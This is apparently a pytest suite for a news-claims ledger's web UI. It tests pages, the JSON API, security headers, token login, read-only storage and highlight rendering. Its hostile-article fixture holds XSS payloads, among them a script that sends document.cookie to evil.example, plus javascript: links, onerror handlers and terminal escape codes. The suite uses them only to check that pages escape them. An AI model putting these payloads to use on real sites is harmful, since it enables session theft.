"""The web UI (newsledger serve) through FastAPI's TestClient: pages, JSON API, safety, read-only store.

The store holds the seed report and a few made-up ones: a landslide told by
three outlets with different death tolls (a flagged series), a republished
copy, and an article whose title, text and outlet are hostile (script tags,
event handlers, javascript: links, terminal escape codes, a bidi override).
"""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

pytest.importorskip("fastapi")
pytest.importorskip("httpx")

from click.testing import CliRunner  # noqa: E402
from fastapi.testclient import TestClient  # noqa: E402

from newsledger.cli import cli  # noqa: E402
from newsledger.ingest.article import RawArticle  # noqa: E402
from test_store_fixtures import store_url  # noqa: E402,F401  (a fixture)

LOCAL = "http://127.0.0.1:8000"
TOKEN = "a-long-enough-test-token-1234"

HOSTILE_TITLE = '<script>alert("title")</script> Fire <img src=x onerror=alert(1)>'
HOSTILE_OUTLET = '<b onmouseover="alert(2)">Evil\x1b]0;owned\x07 Times</b>'
HOSTILE_TEXT = (
    "Police said 12 people were hurt in the fire on Tuesday.\n\n"
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script> '
    '<a href="javascript:alert(4)">read more</a> <img src="https://evil.example/pixel.gif" onerror="alert(5)">\n\n'
    "The clerk typed \x1b[2J and \x9b31m into the form, and \u202eevil\u202c text."
)

REPORTS = [
    RawArticle(
        id="veld-1", published="2025-05-06", outlet="Harbour Gazette", url="https://gazette.example/veld",
        title="Landslide buries homes in Veldmark",
        text="At least 40 people were killed when a landslide buried homes in Veldmark on Monday, "
             "the regional governor said on Tuesday.\n\n"
             "About 1,200 residents were evacuated to schools in the valley, the governor added.",
    ),
    RawArticle(
        id="veld-2", published="2025-05-08", outlet="Valley Courier", title="Veldmark landslide toll rises",
        text="The number of people killed in the Veldmark landslide has risen to 62, "
             "the interior ministry said on Thursday.\n\n"
             "Rescuers were still searching for 15 people, according to the Red Cross.",
    ),
    RawArticle(
        id="veld-3", published="2025-05-08", outlet="North Star", title="Ministry and governor differ on landslide dead",
        text="The regional governor said on Thursday that 35 people were killed in the Veldmark landslide, "
             "fewer than the ministry's count.",
    ),
    RawArticle(
        id="veld-1-copy", published="2025-05-07", outlet="Coastline Daily", title="Landslide buries homes in Veldmark",
        text="At least 40 people were killed when a landslide buried homes in Veldmark on Monday, "
             "the regional governor said on Tuesday.\n\n"
             "About 1,200 residents were evacuated to schools in the valley, the governor added.",
    ),
    RawArticle(id="hostile-1", published="2025-04-02", url="javascript:alert(3)", outlet=HOSTILE_OUTLET,
               title=HOSTILE_TITLE, text=HOSTILE_TEXT),
]


def _fill(db: str, extractor, seed_path: Path) -> None:
    from newsledger.ingest.readers import iter_inputs
    from newsledger.run import ingest
    from newsledger.store import open_store

    with open_store(db) as store:
        stats = ingest(store, [*REPORTS, *iter_inputs([str(seed_path)])], extractor=extractor)
    assert not stats.errors and stats.added == len(REPORTS) + 1, stats


@pytest.fixture(scope="module")
def db(tmp_path_factory, extractor, seed_path) -> str:
    path = str(tmp_path_factory.mktemp("web") / "ledger.db")
    _fill(path, extractor, seed_path)
    return path


@pytest.fixture(scope="module")
def store(db):
    from newsledger.web import open_readonly

    with open_readonly(db) as store:
        yield store


@pytest.fixture(scope="module")
def client(store):
    from newsledger.web import create_app

    return TestClient(create_app(store), base_url=LOCAL)


@pytest.fixture(scope="module")
def seed_id(client) -> str:
    rows = client.get("/api/articles", params={"outlet": "CNN"}).json()["rows"]
    assert len(rows) == 1
    return rows[0]["id"]


@pytest.fixture(scope="module")
def flagged_series(client) -> dict:
    rows = client.get("/api/series", params={"flagged": True, "about": "people"}).json()["rows"]
    killed = [r for r in rows if r["measure_class"] == "killed"]
    assert killed, rows
    return killed[0]


class Tags(HTMLParser):
    """Every start tag of a page with its attributes, and the text inside each tag kind."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self._open: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def parse(html: str) -> Tags:
    found = Tags()
    found.feed(html)
    return found


class Marks(HTMLParser):
    """The highlights of an article page: each mark's attributes and the text it covers."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.marks: list[dict] = []
        self._stack: list[dict] = []

    def handle_starttag(self, tag, attrs):
        if tag == "mark" and "data-record" in dict(attrs):
            mark = {**dict(attrs), "covered": ""}
            self.marks.append(mark)
            self._stack.append(mark)
        elif tag == "mark":
            self._stack.append({"covered": ""})

    def handle_endtag(self, tag):
        if tag == "mark":
            self._stack.pop()

    def handle_data(self, data):
        for mark in self._stack:
            mark["covered"] += data


def marks(html: str) -> list[dict]:
    found = Marks()
    found.feed(html)
    return found.marks


# -- every page and the API ---------------------------------------------------------------------------------------


def _pages(client, seed_id, flagged_series) -> list[str]:
    return [
        "/", "/articles", "/articles?q=landslide", f"/articles/{seed_id}", "/articles/hostile-1", "/claims",
        "/claims?about=troops", "/series", "/series?flagged=1", f"/series/{flagged_series['id']}", "/events",
        "/login",
    ]


@pytest.mark.parametrize("path,expected", [
    ("/", ["Latest articles", "Series with flags", "Latest events", "Landslide buries homes in Veldmark"]),
    ("/articles", ["Veldmark landslide toll rises", "Harbour Gazette", 'name="q"']),
    ("/articles?q=toll+rises", ["Veldmark landslide toll rises"]),
    ("/claims", ["approximately 11,000", "South Korea", 'id="csv-download"']),
    ("/series", ["people: killed", "disagreement"]),
    ("/events", ["<h1>Events</h1>"]),
])
def test_every_page_answers_with_its_content(client, path, expected):
    r = client.get(path)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
    for text in expected:
        assert text in r.text, (path, text)


def test_overview_counts_what_the_store_holds(client):
    found = {t[1]["data-count"] for t in parse(client.get("/").text).tags if "data-count" in t[1]}
    assert {"articles", "claims", "times", "entities", "statements", "events", "series", "flagged series"} <= found
    assert re.search(r'data-count="articles"><span class="n">6</span>', client.get("/").text)


def test_article_search_filters_by_words_outlet_and_date(client):
    def ids(**params):
        return {r["id"] for r in client.get("/api/articles", params=params).json()["rows"]}

    assert ids(q="landslide") == {"veld-1", "veld-2", "veld-3", "veld-1-copy"}
    assert ids(q="landslide TOLL") == {"veld-2"}  # every word, any case
    assert ids(outlet="courier") == {"veld-2"}
    assert ids(since="2025-05-07", until="2025-05-07") == {"veld-1-copy"}
    assert ids(q="100%") == set()  # LIKE's own characters are literal
    assert client.get("/api/articles", params={"since": "2025-05-08", "until": "2025-05-01"}).status_code == 400
    assert client.get("/api/articles", params={"since": "May 1"}).status_code == 422


def test_json_api_answers_each_listing_with_paging(client, seed_id, flagged_series):
    for path in ("/api/articles", "/api/claims", "/api/series", "/api/events"):
        r = client.get(path)
        assert r.status_code == 200 and r.headers["content-type"] == "application/json", path
        body = r.json()
        assert {"page", "size", "prev", "next", "rows"} <= set(body), path
    claims = client.get("/api/claims", params={"about": "troops", "source": "South Korea"}).json()["rows"]
    assert any(c["figure"] == "approximately 11,000" for c in claims)
    one = client.get(f"/api/articles/{seed_id}").json()
    assert one["article"]["id"] == seed_id and any(r["type"] == "claim" for r in one["records"])
    series = client.get(f"/api/series/{flagged_series['id']}").json()
    assert series["type"] == "series" and series["flags"]
    # the API gives the stored text exactly: it is data, not a page
    hostile = client.get("/api/articles/hostile-1").json()["article"]
    assert hostile["text"] == HOSTILE_TEXT and hostile["outlet"] == HOSTILE_OUTLET


def test_openapi_describes_the_api_and_docs_pages_are_off(client):
    spec = client.get("/openapi.json").json()
    assert {"/api/articles", "/api/claims", "/api/series", "/api/events"} <= set(spec["paths"])
    assert not any(not p.startswith("/api/") for p in spec["paths"])  # pages are not API
    for path in ("/docs", "/redoc"):
        assert client.get(path).status_code == 404


def test_unknown_article_or_series_is_a_404_page(client):
    r = client.get("/articles/no-such-article")
    assert r.status_code == 404 and "no article" in r.text and r.headers["content-type"].startswith("text/html")
    assert client.get("/api/series/ffffffffffff").status_code == 404
    assert client.get("/api/articles/no-such-article").json()["detail"].startswith("no article")


# -- an article's page -----------------------------------------------------------------------------------------


def test_seed_article_page_carries_the_troops_claim_with_source_and_as_of_date(client, seed_id):
    page = client.get(f"/articles/{seed_id}").text
    found = [m for m in marks(page) if m["data-kind"] == "claim" and "11,000" in m["covered"]]
    assert found, "the 11,000-troops claim is not highlighted"
    record = json.loads(found[0]["data-record"])
    assert record["type"] == "claim" and record["quantity"]["value"] == 11000
    assert record["quantity"]["low"] < 11000 < record["quantity"]["high"]  # "approximately": an interval
    assert "South Korea" in (record["source"]["entity"] or record["source"]["name"])
    assert record["as_of"] == "2025-03-27" and record["time"]["basis"]
    # the anchor other pages link to is on the first mark at the claim's offset
    assert f'id="span-{record["span"][0]}"' in page


def test_every_kind_of_record_has_its_own_highlight(client, seed_id):
    kinds = {m["data-kind"] for m in marks(client.get(f"/articles/{seed_id}").text)}
    assert {"claim", "time", "entity", "source", "statement"} <= kinds
    for m in marks(client.get(f"/articles/{seed_id}").text):
        assert f"hl-{m['data-kind']}" in m["class"].split()


def test_highlights_cover_exactly_their_records_text(client, seed_id):
    page = client.get(f"/articles/{seed_id}").text
    article = client.get(f"/api/articles/{seed_id}").json()["article"]
    whole = {}
    for m in marks(page):
        key = (m["data-part"], m["data-ref"], m["data-kind"], m["data-start"], m["data-end"])
        whole[key] = whole.get(key, "") + m["covered"]  # a crossed record comes in pieces
    assert {part for part, *_ in whole} == {"text", "origin_title"}  # the credited headline has its own
    for (part, _, _, start, end), covered in whole.items():
        assert covered == article[part][int(start):int(end)]


def test_article_page_lists_records_copies_and_the_record_panel(client):
    page = client.get("/articles/veld-1").text
    assert 'id="record-panel"' in page and '<script src="/static/app.js" defer></script>' in page
    assert 'id="claims"' in page and 'id="times"' in page and 'id="copies"' in page
    tags = parse(page).tags
    assert any(t == "a" and a.get("href") == "/articles/veld-1-copy" for t, a in tags)  # its republished copy
    copy = client.get("/articles/veld-1-copy").text
    assert "copy of" in copy and 'href="/articles/veld-1"' in copy


def test_the_panel_script_is_a_static_file_that_writes_text_only(client):
    r = client.get("/static/app.js")
    assert r.status_code == 200 and "javascript" in r.headers["content-type"]
    assert "innerHTML" not in r.text and "eval(" not in r.text and "textContent" in r.text
    assert client.get("/static/style.css").status_code == 200


# -- claims, series, events ------------------------------------------------------------------------------------


def test_claims_page_filters_and_downloads_csv(client):
    page = client.get("/claims", params={"about": "killed", "since": "2025-05-01"}).text
    assert "Veldmark" in page and "11,000" not in page
    link = [a["href"] for t, a in parse(page).tags if a.get("id") == "csv-download"][0]
    assert link.startswith("/claims.csv?") and "about=killed" in link and "page" not in link
    r = client.get(link)
    assert r.headers["content-type"].startswith("text/csv") and "attachment" in r.headers["content-disposition"]
    lines = r.text.splitlines()
    assert lines[0].startswith("id,article_id,published,figure") and len(lines) > 1
    assert all("2025-05" in line for line in lines[1:])


def test_claim_rows_link_to_their_figure_in_the_article(client):
    page = client.get("/claims", params={"about": "troops"}).text
    links = [a["href"] for t, a in parse(page).tags if "figure" in (a.get("class") or "")]
    assert links and all(re.fullmatch(r"/articles/[^#]+#((origin-)?title-)?span-\d+", h) for h in links)
    for href in links:
        path, anchor = href.split("#")
        assert f'id="{anchor}"' in client.get(path).text


def test_series_page_draws_members_estimate_and_flags(client, flagged_series):
    page = client.get(f"/series/{flagged_series['id']}").text
    tags = parse(page).tags
    members = [a for t, a in tags if t == "g" and "member" in (a.get("class") or "").split()]
    assert len(members) == flagged_series["n_members"] == 3
    assert len({a["class"].split()[1] for a in members}) == 3  # three sources, three colours
    assert any(a.get("id") == "estimate-band" for t, a in tags)
    assert any(t == "g" and a.get("data-kind") == "disagreement" for t, a in tags)  # the flag on the chart
    spans = [a["href"] for t, a in tags if t == "a" and "member-span" in (a.get("class") or "")]
    assert len(spans) == 3 and all(re.fullmatch(r"/articles/veld-[\w-]+#span-\d+", h) for h in spans)
    # and each link lands on a highlight of that page
    for href in spans:
        path, anchor = href.split("#")
        assert f'id="{anchor}"' in client.get(path).text


def test_series_filters(client):
    assert all(r["n_flags"] > 0 for r in client.get("/api/series", params={"flagged": 1}).json()["rows"])
    rows = client.get("/api/series", params={"measure_class": "deployed"}).json()["rows"]
    assert rows and all(r["measure_class"] == "deployed" for r in rows)
    assert client.get("/api/series", params={"measure_class": "nonsense"}).status_code == 400


def test_events_page_says_when_there_are_none(client):
    page = client.get("/events", params={"type": "SANCTION", "country": "ATA"}).text
    assert 'id="no-events"' in page and "matching these filters" in page
    assert client.get("/api/events", params={"country": "not-a-code"}).status_code == 422


# -- safety ----------------------------------------------------------------------------------------------------


def _all_pages(client, seed_id, flagged_series) -> dict[str, str]:
    out = {p: client.get(p).text for p in _pages(client, seed_id, flagged_series)}
    for row in client.get("/api/articles", params={"size": 100}).json()["rows"]:
        out[f"/articles/{row['id']}"] = client.get(f"/articles/{row['id']}").text
    for row in client.get("/api/series", params={"size": 100}).json()["rows"]:
        out[f"/series/{row['id']}"] = client.get(f"/series/{row['id']}").text
    return out


def test_hostile_article_renders_as_text(client):
    for path in ("/articles/hostile-1", "/articles", "/", "/claims?article=hostile-1"):
        html = client.get(path).text
        tags = parse(html).tags
        # the only script is the page's own, the only images none; no handler attribute anywhere
        assert [a.get("src") for t, a in tags if t == "script"] == ["/static/app.js"], path
        assert not any(t in ("img", "b") for t, _ in tags), path
        assert not any(k.startswith("on") for _, a in tags for k in a), path
        assert not any("javascript:" in (v or "") for _, a in tags for v in a.values()), path
        assert "<script>alert" not in html and "<script>fetch" not in html, path
        # escape codes, C1 controls and bidi overrides never reach the page as such
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", html), path
    page = client.get("/articles/hostile-1").text
    assert "&lt;script&gt;alert(&#34;title&#34;)&lt;/script&gt;" in page  # shown, as text
    assert "onerror=alert(1)&gt;" in page and "Evil␛]0;owned␇ Times" in page
    assert "typed ␛[2J and \\x9b31m" in page and "\\u202eevil" in page
    assert "javascript:alert(3)" in page  # the article's address as text, never as a link


def test_hostile_text_in_data_attributes_stays_data(client):
    found = marks(client.get("/articles/hostile-1").text)
    assert found
    for m in found:
        record = json.loads(m["data-record"])  # well-formed JSON after the browser unescapes it
        assert isinstance(record, dict)


def test_security_headers_on_every_answer(client, seed_id):
    for path in ("/", f"/articles/{seed_id}", "/api/claims", "/openapi.json", "/static/app.js", "/nowhere"):
        h = client.get(path).headers
        csp = h["content-security-policy"]
        assert "default-src 'self'" in csp and "unsafe-inline" not in csp and "script-src 'self'" in csp, path
        assert h["x-content-type-options"] == "nosniff" and h["referrer-policy"] == "no-referrer", path


def test_pages_load_nothing_from_another_host(client, seed_id, flagged_series):
    pages = _all_pages(client, seed_id, flagged_series)
    assert len(pages) > 15
    for path, html in pages.items():
        for tag, attrs in parse(html).tags:
            for name, value in attrs.items():
                if name in ("src", "href", "action", "srcset", "poster", "data", "xlink:href", "formaction"):
                    assert not re.match(r"\s*([a-z][a-z0-9+.-]*:|//)", value or "", re.I), (path, tag, name, value)
        assert not re.search(r"""(src|href|action)\s*=\s*["']?\s*(https?:)?//""", html, re.I), path
        assert 'style="' not in html and "<style" not in html, path  # no inline style: the CSP refuses it
    css = client.get("/static/style.css").text
    assert "url(" not in css and "@import" not in css


def test_sizes_and_pages_are_bounded(client):
    big = client.get("/api/claims", params={"size": 100_000}).json()
    assert big["size"] == 100 and len(big["rows"]) <= 100
    one = client.get("/api/claims", params={"size": 1}).json()
    assert len(one["rows"]) == 1 and one["next"] and one["prev"] is None
    second = client.get(one["next"]).json()
    assert second["page"] == 2 and second["rows"][0]["id"] != one["rows"][0]["id"] and second["prev"]
    assert client.get("/api/claims", params={"page": 10**9}).json()["page"] == 200
    assert client.get("/api/claims", params={"page": 0}).status_code == 422
    assert client.get("/api/claims", params={"size": -1}).status_code == 422
    assert client.get("/api/claims", params={"about": "x" * 201}).status_code == 422
    assert client.get("/api/articles", params={"q": " ".join("w" * 3 for _ in range(9))}).status_code == 400
    page = client.get("/articles", params={"q": "x" * 500})
    assert page.status_code == 422 and page.headers["content-type"].startswith("text/html")


def test_only_loopback_host_names_are_answered_without_a_token(store):
    from newsledger.web import create_app

    app = create_app(store)
    assert TestClient(app, base_url="http://localhost:8000").get("/").status_code == 200
    # a page elsewhere whose name was pointed at 127.0.0.1 (DNS rebinding) sends its own Host
    assert TestClient(app, base_url="http://evil.example").get("/api/claims").status_code == 400


def test_a_token_guards_every_request(store):
    from newsledger.web import create_app

    client = TestClient(create_app(store, token=TOKEN), base_url="http://ledger.example.org")
    assert client.get("/api/claims").status_code == 401
    assert client.get("/openapi.json").status_code == 401
    r = client.get("/claims?about=troops", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/login?next=%2Fclaims%3Fabout%3Dtroops"
    assert client.get("/api/claims", headers={"Authorization": "Bearer wrong-token-of-some-length"}).status_code == 401
    assert client.get("/api/claims", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 200
    # the login form: a wrong token is refused, the right one sets a cookie that is not the token
    assert client.post("/login", data={"token": "nope", "next": "/"}).status_code == 401
    r = client.post("/login", data={"token": TOKEN, "next": "/claims"}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/claims"
    cookie = r.cookies.get("newsledger_session")
    assert cookie and TOKEN not in cookie and "httponly" in r.headers["set-cookie"].lower()
    assert client.get("/claims").status_code == 200 and client.get("/api/series").status_code == 200
    # a login never sends anyone to another host
    r = client.post("/login", data={"token": TOKEN, "next": "//evil.example/"}, follow_redirects=False)
    assert r.headers["location"] == "/"


def test_serve_refuses_an_open_host_without_a_token(db, monkeypatch):
    monkeypatch.delenv("NEWSLEDGER_TOKEN", raising=False)
    done = CliRunner().invoke(cli, ["serve", "--db", db, "--host", "0.0.0.0"])
    assert done.exit_code == 2 and "without a token" in done.output and "--token" in done.output
    done = CliRunner().invoke(cli, ["serve", "--db", db, "--host", "192.0.2.7", "--token", "short"])
    assert done.exit_code == 2 and "at least 16" in done.output


def test_which_hosts_are_loopback():
    from newsledger.web.security import is_loopback, refuse_open_host

    assert all(map(is_loopback, ["127.0.0.1", "127.8.0.1", "::1", "[::1]", "localhost", "LOCALHOST"]))
    assert not any(map(is_loopback, ["0.0.0.0", "::", "192.168.1.4", "example.org", "localhost.example.org"]))
    assert refuse_open_host("127.0.0.1", None) is None and refuse_open_host("0.0.0.0", TOKEN) is None


# -- the store is read-only ------------------------------------------------------------------------------------


def test_the_web_store_refuses_writes(store, db):
    import sqlalchemy as sa

    before = Path(db).read_bytes()
    with pytest.raises(sa.exc.OperationalError, match="readonly|read-only|query_only"):
        with store.engine.begin() as conn:
            conn.execute(sa.text("DELETE FROM claims"))
    assert Path(db).read_bytes() == before


def test_sqlite_and_postgresql_stores_are_opened_read_only(store_url):  # noqa: F811
    import sqlalchemy as sa

    from newsledger.store import open_store
    from newsledger.web import open_readonly

    open_store(store_url).close()  # an empty ledger
    with open_readonly(store_url) as store:
        with store.engine.connect() as conn:
            assert conn.execute(sa.text("SELECT count(*) FROM articles")).scalar() == 0
        with pytest.raises(sa.exc.DBAPIError, match="read-only|readonly"):
            with store.engine.begin() as conn:
                conn.execute(sa.text("INSERT INTO series_flags (series_id, ord, kind, members) VALUES ('s', 0, 'k', '[]')"))


def test_no_store_is_created_by_opening_one(tmp_path):
    from newsledger.errors import StoreError
    from newsledger.web import open_readonly

    with pytest.raises(StoreError, match="no store"):
        open_readonly(str(tmp_path / "missing.db"))
    assert not (tmp_path / "missing.db").exists()
    (tmp_path / "empty.db").write_bytes(b"")
    with pytest.raises(StoreError, match="no ledger"):
        open_readonly(str(tmp_path / "empty.db"))


# -- the server itself -----------------------------------------------------------------------------------------


def test_serve_starts_prints_its_url_and_answers(db):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**os.environ, "NEWSLEDGER_TOKEN": ""}
    cmd = [sys.executable, "-c", "from newsledger.cli import cli; cli()", "serve", "--db", db, "--port", str(port)]
    started = time.monotonic()
    proc = subprocess.Popen(cmd, stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True, env=env)
    try:
        line = proc.stderr.readline()
        assert f"http://127.0.0.1:{port}/" in line and "read-only" in line, line
        import httpx

        for _ in range(100):
            try:
                r = httpx.get(f"http://127.0.0.1:{port}/", timeout=5)
                break
            except httpx.TransportError:
                time.sleep(0.1)
        assert r.status_code == 200 and "Latest articles" in r.text
        assert "server" not in r.headers  # uvicorn's banner is off
        print(f"serve answered its first page {time.monotonic() - started:.2f} s after starting")
    finally:
        proc.terminate()
        proc.wait(timeout=20)


# -- the pieces under the pages --------------------------------------------------------------------------------


def _claim(start, end, text, source_span=None):
    from newsledger.records import ClaimRecord
    from newsledger.records.parts import Quantity, Source

    source = None if source_span is None else Source("the mayor", None, source_span, "said")
    return ClaimRecord("a", (start, end), text, (0, 0), Quantity(1.0), source=source)


def _statement(start, end, text):
    from newsledger.records import StatementRecord

    return StatementRecord("a", (start, end), text, None, "said", False)


def test_crossing_records_nest_as_balanced_marks():
    from newsledger.web.highlight import marks_of, pieces

    text = "The mayor said 40 homes flooded, and 12 more on Sunday."
    records = [
        _statement(0, 31, text[0:31]),      # ends inside nothing, holds the first claim
        _claim(15, 23, text[15:23], (4, 9)),  # "40 homes", its source "mayor"
        _claim(28, 48, text[28:48]),        # crosses the statement's end
    ]
    out = pieces(text, marks_of(records, "text", len(text), None))
    assert "".join(p["text"] for p in out if p["op"] == "text") == text
    depth = 0
    for p in out:
        depth += {"open": 1, "close": -1}.get(p["op"], 0)
        assert depth >= 0
    assert depth == 0
    crossing = [p for p in out if p["op"] == "open" and p["start"] == 28]
    assert len(crossing) == 2 and [p["continued"] for p in crossing] == [False, True]  # cut and reopened
    ids = [p["id"] for p in out if p["op"] == "open" and p["id"]]
    assert len(ids) == len(set(ids)) and "span-15" in ids and "span-4" in ids
    assert {p["kind"] for p in out if p["op"] == "open"} == {"statement", "claim", "source"}


def test_control_characters_in_a_piece_do_not_shift_later_highlights():
    from newsledger.web.highlight import marks_of, pieces

    text = "Odd \x9b\x1b chars, then 7 boats sank."
    i = text.index("7 boats")
    out = pieces(text, marks_of([_claim(i, i + 7, "7 boats")], "text", len(text), None))
    opened = [n for n, p in enumerate(out) if p["op"] == "open"][0]
    assert out[opened + 1]["text"] == "7 boats"
    assert "\x1b" not in "".join(p.get("text", "") for p in out) and "␛" in out[0]["text"]


def test_a_claim_holds_as_of_its_period_end_but_never_after_its_report():
    from newsledger.records import ClaimRecord
    from newsledger.records.parts import ClaimTime, Quantity
    from newsledger.web.highlight import as_of

    def claim(time):
        return ClaimRecord("a", (0, 1), "5", (0, 1), Quantity(5.0), time=time)

    assert as_of(claim(None), "2025-03-10") == ("2025-03-10", "published")
    assert as_of(claim(ClaimTime("2025-01-01", "2025-12-31", "this year", "period", "text")), "2025-03-10") == (
        "2025-03-10", "published")
    assert as_of(claim(ClaimTime(None, "2025-02-26", "until February 26", "as_of", "text")), "2025-03-10") == (
        "2025-02-26", "text")


def test_timeline_has_a_mark_per_dated_member_and_open_bounds_reach_the_edge():
    from newsledger.records.series import Estimate, Flag, SeriesMember, SeriesRecord
    from newsledger.web.chart import timeline

    def member(day, value, low, high, source, bound="exact"):
        return SeriesMember("a", (0, 2), value, low, high, bound, day, None, source, "Outlet", day)

    record = SeriesRecord(
        "s1", "boats: sunk", "other", "boats", None, None,
        members=(
            member("2025-01-02", 10, 10, 10, "Navy"),
            member("2025-01-02", 14, 14, None, "Coast guard", "lower"),
            member("2025-01-09", 30, 27, 33, "Navy", "approx"),
            member(None, 5, 5, 5, "Port"),
        ),
        estimate=(Estimate("2025-01-02", 10, 12, 14, 2), Estimate("2025-01-09", 27, 30, 33, 1)),
        flags=(Flag("disagreement", (0, 1), "the navy and the coast guard differ"),),
    )
    chart = timeline(record)
    assert chart is not None and len(chart.members) == 3 and chart.undated == 1
    a, b, c = chart.members
    assert a["x"] != b["x"]  # one date, spread apart
    assert b["open_top"] and b["top"] == chart.plot[1]  # "at least": up to the top of the plot
    assert c["top"] < c["y"] < c["bottom"]  # the bar runs from high (up) to low (down) around the figure
    assert a["colour"] == c["colour"] != b["colour"]  # colour by source
    assert a["flags"] == ["disagreement"] and not c["flags"]
    assert chart.flags[0]["kind"] == "disagreement" and chart.band and chart.best
    assert len(chart.band.split()) == 4  # two dates: upper edge and lower edge back


def test_a_series_without_a_dated_figure_has_no_chart():
    from newsledger.records.series import SeriesMember, SeriesRecord
    from newsledger.web.chart import timeline

    m = SeriesMember("a", None, None, None, None, "exact", None, None, None, None, None)
    assert timeline(SeriesRecord("s", "x", "other", "x", None, None, members=(m,))) is None
